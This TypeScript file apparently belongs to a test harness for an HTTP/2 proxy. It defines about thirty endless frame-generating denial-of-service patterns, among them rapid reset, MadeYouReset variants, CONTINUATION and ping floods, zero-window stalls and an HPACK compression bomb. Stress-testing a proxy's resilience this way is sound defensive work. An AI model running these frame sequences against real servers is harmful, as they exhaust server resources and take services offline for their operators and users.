import { block, data, frame, get, headers, post, setting, types, u32 } from './h2-client.ts'

/** Frames without end: `batch` is called again whenever the connection takes more. */
export interface Attack {
  /** Behind the preface, instead of an empty SETTINGS frame. */
  readonly first?: Buffer
  /** The n-th piece; `undefined`: nothing more, the connection stays open. */
  readonly batch: (n: number) => Buffer | undefined
  /** Nothing of what the proxy says is read. */
  readonly deaf?: boolean
  /** Time between two pieces. */
  readonly everyMs?: number
}

const each = (count: number, make: (at: number) => readonly Buffer[]): Buffer => Buffer.concat(Array.from({ length: count }, (_, at) => make(at)).flat())
const same = (count: number, one: Buffer): ((n: number) => Buffer) => {
  const all = each(count, () => [one])
  return () => all
}
/** The number of the n-th stream. */
const id = (n: number): number => n * 2 + 1
const bytes = (hex: string): Buffer => Buffer.from(hex, 'hex')

/** 4 KiB go into the table once; then each octet stands for all of it. */
const bombSeed = Buffer.concat([bytes('40'), block(['x-bomb', 'b'.repeat(4000)]).subarray(1)])

const manyFields = Buffer.concat([block(get()), Buffer.concat(Array.from({ length: 3000 }, () => block(['x', ''])))])

export const attacks = {
  'rapid-reset': { batch: (n) => each(100, (at) => [headers(id(n * 100 + at), get('/slow')), frame(types.reset, 0, id(n * 100 + at), u32(8))]) },
  'made-you-reset-window': { batch: (n) => each(100, (at) => [headers(id(n * 100 + at), get('/slow')), frame(types.window, 0, id(n * 100 + at), u32(0))]) },
  'made-you-reset-overflow': { batch: (n) => each(100, (at) => [headers(id(n * 100 + at), get('/slow')), frame(types.window, 0, id(n * 100 + at), u32(0x7fffffff))]) },
  'made-you-reset-data': { batch: (n) => each(100, (at) => [headers(id(n * 100 + at), get('/slow')), data(id(n * 100 + at), 'x')]) },
  'made-you-reset-head': { batch: (n) => each(100, (at) => [headers(id(n * 100 + at), get('/slow')), headers(id(n * 100 + at), get('/slow'))]) },
  'made-you-reset-priority': { batch: (n) => each(100, (at) => [headers(id(n * 100 + at), get('/slow')), frame(types.priority, 0, id(n * 100 + at), Buffer.concat([u32(id(n * 100 + at)), bytes('08')]))]) },
  'made-you-reset-malformed': { batch: (n) => each(100, (at) => [headers(id(n * 100 + at), get('/', 'Upper', 'x'))]) },
  'made-you-reset-length': { batch: (n) => each(100, (at) => [headers(id(n * 100 + at), post('/slow', 'content-length', '1'), false), data(id(n * 100 + at), 'xx')]) },
  'continuation-empty': { batch: (n) => n === 0 ? frame(types.headers, 1, 1, block(get())) : each(1000, () => [frame(types.continuation, 0, 1)]) },
  'continuation-full': { batch: (n) => n === 0 ? frame(types.headers, 1, 1, block(get())) : frame(types.continuation, 0, 1, block(['x-y', 'z'.repeat(16_000)])) },
  'drip-continuation': { everyMs: 100, batch: (n) => n === 0 ? frame(types.headers, 1, 1, block(get())) : n % 8 === 0 ? frame(types.continuation, 0, 1, bytes('00')) : Buffer.alloc(0) },
  'drip-octets': { everyMs: 20, batch: (n) => headers(1, get('/', 'x', 'y'.repeat(500))).subarray(n, n + 1) },
  'ping': { batch: same(2000, frame(types.ping, 0, 0, u32(1, 2))) },
  'ping-deaf': { deaf: true, batch: same(2000, frame(types.ping, 0, 0, u32(1, 2))) },
  'settings': { batch: same(2000, setting([4, 65_535])) },
  'settings-full': { batch: same(4, frame(types.settings, 0, 0, Buffer.concat(Array.from({ length: 2700 }, () => setting([4, 100]).subarray(9))))) },
  'settings-windows': {
    first: Buffer.concat([setting(), each(90, (at) => [headers(id(at), get('/large'))])]),
    batch: (n) => each(500, (at) => [setting([4, (n * 500 + at) % 2])]),
  },
  'priority': { batch: same(2000, frame(types.priority, 0, 3, Buffer.concat([u32(5), bytes('08')]))) },
  'unknown': { batch: same(2000, frame(0xfa, 0, 0, 'nonsense')) },
  'window-update': { batch: same(2000, frame(types.window, 0, 0, u32(1))) },
  'empty-data': { batch: (n) => n === 0 ? headers(1, post('/slow'), false) : each(2000, () => [data(1, '')]) },
  'padded-data': { batch: (n) => n === 0 ? headers(1, post('/slow'), false) : each(2000, () => [frame(types.data, 8, 1, bytes('00'))]) },
  'one-byte-data': { batch: (n) => n === 0 ? headers(1, post('/slow'), false) : n <= 100 ? each(2500, () => [data(1, 'x')]) : undefined },
  'one-byte-data-read': { batch: (n) => n === 0 ? headers(1, post('/sink'), false) : each(1000, () => [data(1, 'x')]) },
  'zero-window': { first: setting([4, 0]), batch: (n) => n < 100 ? each(100, (at) => [headers(id(n * 100 + at), get('/large'))]) : undefined },
  'one-byte-window': { first: setting([4, 1]), batch: (n) => n < 1 ? each(100, (at) => [headers(id(n * 100 + at), get('/large'))]) : undefined },
  'deaf': { deaf: true, batch: (n) => n < 100 ? each(100, (at) => [headers(id(n * 100 + at), get('/'))]) : undefined },
  'deaf-large': { deaf: true, first: setting([4, 0x7fffffff]), batch: (n) => n === 0 ? Buffer.concat([frame(types.window, 0, 0, u32(0x7fff0000)), each(100, (at) => [headers(id(at), get('/large'))])]) : undefined },
  'huge-heads': { batch: (n) => each(5, (at) => [headers(id(n * 5 + at), get('/', 'x-huge', 'h'.repeat(16_000)))]) },
  'many-fields': { batch: (n) => each(5, (at) => [frame(types.headers, 5, id(n * 5 + at), manyFields)]) },
  'hpack-bomb': { batch: (n) => n === 0 ? frame(types.headers, 5, 1, Buffer.concat([block(get()), bombSeed])) : each(4, (at) => [frame(types.headers, 5, id(n * 4 + at), Buffer.concat([block(get()), Buffer.alloc(16_000, 0xbe)]))]) },
  'table-sizes': { batch: (n) => each(4, (at) => [frame(types.headers, 5, id(n * 4 + at), Buffer.concat([Buffer.alloc(16_000, 0x20), block(get())]))]) },
  'streams': { batch: (n) => each(200, (at) => [headers(id(n * 200 + at), get('/slow'))]) },
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks
